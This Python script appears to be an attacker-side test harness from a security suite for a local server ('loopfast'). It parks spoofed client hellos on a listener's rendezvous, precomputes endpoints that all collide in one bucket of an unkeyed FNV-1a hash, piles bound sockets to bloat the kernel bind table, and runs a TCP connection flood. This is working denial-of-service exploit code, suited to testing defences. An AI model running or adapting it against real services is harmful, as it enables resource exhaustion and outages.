"""Parked hellos (run as the attacker): queues COUNT hellos on a listener's
rendezvous, each naming the server's port from a client endpoint of the
attacker's choosing across 127.0.0.0/8 and carrying one byte, so that the
server's accepts stash them (a hello with unread data is a client that
wrote its request: it is kept). --close: each is closed at once (a closed
hello with unread data is not dead; the attacker holds nothing). --bucket:
the endpoints all fall in one stash bucket under protocol 3's unkeyed hash
(FNV-1a of the address and port, 16384 buckets). --repark S: the same
endpoints again every S seconds (new hellos, closed, so that the stash
never lacks young ones that no check can drop yet; --repark-count: only
that many of them). --connect: each hello comes after a plain TCP
connection from its endpoint, held until the next round (so the kernel
finds a connection for it: it stays stashed until that connection has
been accepted for a while). --bind: each hello comes after a TCP socket
bound to its endpoint, held and never connected (the kernel shows it bound
and inactive, owned by the attacker: a client "between its hello and its
SYN"); its hellos are held open. --pile N: N more TCP sockets held bound
and inactive, in child processes (the descriptor limit), so that every dump
of the kernel's bind table is long. Prints "queued N", then
"held K" once a second (the hellos still open whose server end has not
closed them: --close off), and, until stdin closes, with --flood RATE:
RATE plain TCP connections a second (no hello) with MSS 89 in their SYN
(loopfast's "hello queued" mark), from other endpoints of that bucket,
each reset at once. At the end one JSON line: queued, flood connections
made, and over how many seconds."""
import argparse
import json
import os
import select
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lfsec import client_name, reap_flood, rendezvous  # noqa: E402

ap = argparse.ArgumentParser()
ap.add_argument("sport", type=int)
ap.add_argument("ino", type=int)
ap.add_argument("count", type=int)
ap.add_argument("--bucket", action="store_true")
ap.add_argument("--close", action="store_true")
ap.add_argument("--flood", type=int, default=0)
ap.add_argument("--repark", type=float, default=0)
ap.add_argument("--repark-count", type=int, default=0)
ap.add_argument("--connect", action="store_true")
ap.add_argument("--bind", action="store_true")
ap.add_argument("--pile", type=int, default=0)
ap.add_argument("--skip", type=int, default=0, help="endpoints of the bucket left to another parker")
ap.add_argument("--no-hellos", action="store_true", help="with --connect: the connections only (a plain TCP server)")
a = ap.parse_args()

P, BUCKETS = 16777619, 16384


def fnv_addr(addr):
    h = 2166136261 ^ socket.AF_INET
    for b in socket.inet_aton(addr):
        h = ((h ^ b) * P) & 0xffffffff
    return h


def endpoints():
    """(address, port) pairs: with --bucket, those of one bucket of the
    unkeyed hash (its low 14 bits depend only on those of h ^ port, so each
    address gives the 4 ports whose low bits make h ^ port the target's)."""
    target = None
    for x in range(1, 1 << 16):
        addr = "127.%d.%d.1" % (x >> 8, x & 255)
        if not a.bucket:
            for port in range(20000, 20004):
                yield addr, port
            continue
        h = fnv_addr(addr)
        if target is None:
            target = (h ^ 20000) & (BUCKETS - 1)
        for hi in range(4):
            port = ((h ^ target) & (BUCKETS - 1)) | hi << 14
            if 1024 <= port < 65536:
                yield addr, port


eps = endpoints()
for _ in range(a.skip):
    next(eps)
parked = [next(eps) for _ in range(a.count)]
hellos, nonce = [], 0


conns = {}


def park(n, close):
    """Queues a hello for each of the first n parked endpoints (a new name
    each time); with --connect, first a plain TCP connection from that
    endpoint to the server (the previous one reset), so that the kernel
    vouches for the hello."""
    global nonce
    for addr, port in parked[:n]:
        if a.connect:
            old = conns.pop((addr, port), None)
            if old:
                old.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                old.close()
            t = socket.socket()
            t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            t.settimeout(5)
            try:
                t.bind((addr, port))
                t.connect(("127.0.0.1", a.sport))
                conns[(addr, port)] = t
            except OSError:
                t.close()
        if a.bind and (addr, port) not in conns:
            t = socket.socket()
            t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                t.bind((addr, port))
                conns[(addr, port)] = t
            except OSError:
                t.close()
        nonce += 1
        if a.no_hellos:
            continue
        u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        u.bind(client_name("4", port, a.sport, nonce, caddr=addr))
        u.setblocking(False)
        try:
            u.connect(rendezvous("4", a.ino))
            u.send(b"x")
        except OSError:  # the rendezvous is full, or the server has dropped it already
            u.close()
            continue
        if close:
            u.close()
        else:
            hellos.append(u)


def pile(n):
    """n TCP sockets bound and never connected, in children of at most
    15000 each (each lives until this process's end closes its pipe)."""
    kids = []
    for first in range(0, n, 15000):
        r, w = os.pipe()
        ready_r, ready_w = os.pipe()
        if os.fork() == 0:
            os.close(w)
            os.close(ready_r)
            held = []
            for i in range(first, min(n, first + 15000)):
                t = socket.socket()
                t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                try:
                    t.bind(("127.254.%d.%d" % (i // 250000 % 250, i // 1000 % 250 + 1), 2000 + i % 1000))
                    held.append(t)
                except OSError:  # taken (by another test's socket)
                    t.close()
            os.write(ready_w, b"k")
            os.read(r, 1)  # until the parent ends
            os._exit(0)
        os.close(r)
        os.close(ready_w)
        assert os.read(ready_r, 1) == b"k", "a pile child failed"
        os.close(ready_r)
        kids.append(w)
    return kids


piled = pile(a.pile)
park(a.count, a.close)
print("queued", 0 if a.no_hellos else nonce, flush=True)
flood, spare, pending = 0, [next(eps) for _ in range(2048)], {}
start, last, made, parked_at = time.monotonic(), 0.0, 0, time.monotonic()
while True:
    if select.select([sys.stdin], [], [], 0)[0]:
        break
    now = time.monotonic()
    if a.repark and now - parked_at >= a.repark:
        parked_at = now
        park(a.repark_count or a.count, True)
    if not a.close and now - last >= 1:
        last = now
        p = select.poll()
        for u in hellos:
            p.register(u, select.POLLIN)
        held = len(hellos) - len(p.poll(0))  # readable: its server end closed it
        print("held", held, flush=True)
    if not a.flood:
        time.sleep(0.05)
        continue
    # Non-blocking connects, so that a slow server's full accept queue does
    # not slow the flood down; each is reset once established.
    flood += reap_flood(pending)
    if made >= (now - start) * a.flood or len(pending) >= len(spare) // 2:
        time.sleep(0.001)
        continue
    addr, port = spare[made % len(spare)]
    made += 1
    t = socket.socket()
    t.setblocking(False)
    t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 89)
    try:
        t.bind((addr, port))
        t.connect(("127.0.0.1", a.sport))
    except BlockingIOError:
        pending[t.fileno()] = t
    except OSError:
        t.close()
print(json.dumps({"queued": 0 if a.no_hellos else nonce, "flood": flood, "seconds": time.monotonic() - start}), flush=True)
